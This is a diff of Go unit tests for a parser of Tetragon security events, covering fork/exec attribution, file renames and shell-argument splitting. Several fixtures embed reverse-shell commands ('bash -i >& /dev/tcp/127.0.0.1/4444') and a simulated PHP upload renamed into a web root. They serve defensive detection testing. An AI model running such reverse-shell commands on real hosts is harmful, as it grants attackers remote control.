@@ -93,6 +93,20 @@ func TestTetragonDecoder(t *testing.T) {
 			check: func(t *testing.T, evs []*Event) { rtWant(t, "Message", evs[1].Message, "signal SIGKILL") }},
 		{name: "old process_connect", kinds: []Kind{KindExec, KindConnect},
 			in: `{"process_connect":{"process":{"pid":9,"binary":"/usr/bin/nc"},"destination_ip":"10.0.0.9","destination_port":443},"time":"2026-03-14T10:20:37Z"}`},
+		{name: "a cloned child acting before its exec is a fork, not an exec", kinds: []Kind{KindExec, KindFork, KindConnect},
+			in: fmt.Sprintf(`{"process_kprobe":{"process":{"exec_id":"c","pid":1605,"binary":"/usr/bin/bash","arguments":"-c \"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\"","flags":"clone","parent_exec_id":%q},"parent":{"exec_id":%q,"pid":1604,"binary":"/usr/bin/bash","arguments":"-c \"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\"","flags":"execve clone"},"function_name":"tcp_connect","args":[{"sock_arg":{"family":"AF_INET","daddr":"127.0.0.1","dport":4444}}]},"time":"2026-03-14T10:20:37Z"}`, tgExecID("w", 1604), tgExecID("w", 1604)),
+			check: func(t *testing.T, evs []*Event) {
+				rtWant(t, "parent.Message", evs[0].Message, synthParent)
+				rtWant(t, "fork.PID", evs[1].PID, 1604)
+				rtWant(t, "fork.Child", evs[1].Child, 1605)
+				rtWant(t, "connect.PID", evs[2].PID, 1605)
+			}},
+		{name: "rename: the new name is the path", kinds: []Kind{KindExec, KindRename},
+			in: `{"process_kprobe":{"process":{"pid":9,"binary":"/usr/sbin/php-fpm8.2"},"function_name":"security_path_rename","args":[{"path_arg":{"path":"/tmp/php58jp4m"}},{"path_arg":{"path":"/var/www/html/uploads/avatar.php"}}]},"time":"2026-03-14T10:20:37Z"}`,
+			check: func(t *testing.T, evs []*Event) {
+				rtWant(t, "Path", evs[1].Path, "/var/www/html/uploads/avatar.php")
+				rtWant(t, "OldPath", evs[1].OldPath, "/tmp/php58jp4m")
+			}},
 		{name: "loader and rate limit skipped", in: `{"process_loader":{"process":{"pid":1}},"time":"2026-03-14T10:20:37Z"}
 {"rate_limit_info":{"number_of_dropped_process_events":"12"},"time":"2026-03-14T10:20:37Z"}`},
 		{name: "line over 64 KiB", kinds: []Kind{KindExec},
@@ -131,6 +145,24 @@ func TestSplitQuoted(t *testing.T) {
 		}
 		if s := fmt.Sprintf("%q", got); s != c.want {
 			t.Errorf("splitQuoted(%q) = %s, want %s", c.in, s, c.want)
+		}
+	}
+}
+
+// TestTgArgs: a shell's command string holding double quotes comes back
+// whole; other binaries and unambiguous strings split as before.
+func TestTgArgs(t *testing.T) {
+	cases := []struct{ bin, in, want string }{
+		{"/bin/sh", `-c "/bin/bash -c "bash -i >& /dev/tcp/127.0.0.1/4445 0>&1""`, `["-c" "/bin/bash -c \"bash -i >& /dev/tcp/127.0.0.1/4445 0>&1\""]`},
+		{"/usr/bin/dash", `-ec "echo "a b" > /tmp/x"`, `["-ec" "echo \"a b\" > /tmp/x"]`},
+		{"/usr/bin/dash", `-c "id 2>&1"`, `["-c" "id 2>&1"]`},
+		{"/usr/bin/dash", `-c id`, `["-c" "id"]`},
+		{"/usr/bin/dash", `/tmp/x.sh "a b" c`, `["/tmp/x.sh" "a b" "c"]`},
+		{"/usr/bin/python3", `-c "print("a b")"`, `["-c" "print(a" "b)"]`}, // not a shell: left to splitQuoted
+	}
+	for _, c := range cases {
+		if got := fmt.Sprintf("%q", tgArgs(c.bin, c.in)); got != c.want {
+			t.Errorf("tgArgs(%s, %s) = %s, want %s", c.bin, c.in, got, c.want)
 		}
 	}
 }
